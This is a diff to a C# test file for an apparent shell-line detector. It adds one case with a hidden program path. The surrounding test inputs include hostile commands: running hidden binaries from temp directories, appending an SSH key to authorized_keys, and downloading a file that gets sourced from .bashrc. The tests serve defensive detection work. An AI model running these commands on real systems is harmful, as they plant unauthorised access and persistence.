@@ -28,6 +28,7 @@ public sealed class ShellLinesTests
     [InlineData("shell.hidden-program", "/var/tmp/.kx -d")]
     [InlineData("shell.hidden-program", "nohup ~/.cache/.run &")]
     [InlineData("shell.hidden-program", "/dev/shm/agent --quiet")]
+    [InlineData("shell.hidden-program", "/var/tmp/.żx -d")]
     [InlineData("shell.persistence", "PUBLIC_KEY='ssh-rsa AAAA'; echo \"$PUBLIC_KEY\" >> ~/.ssh/authorized_keys")]
     [InlineData("shell.persistence", "PUBLIC_KEY='ssh-rsa AAAA'\necho $PUBLIC_KEY >> ~/.ssh/authorized_keys")]
     [InlineData("shell.persistence", "curl https://example.com/a > /etc/rp_environment\necho 'source /etc/rp_environment' >> ~/.bashrc")]
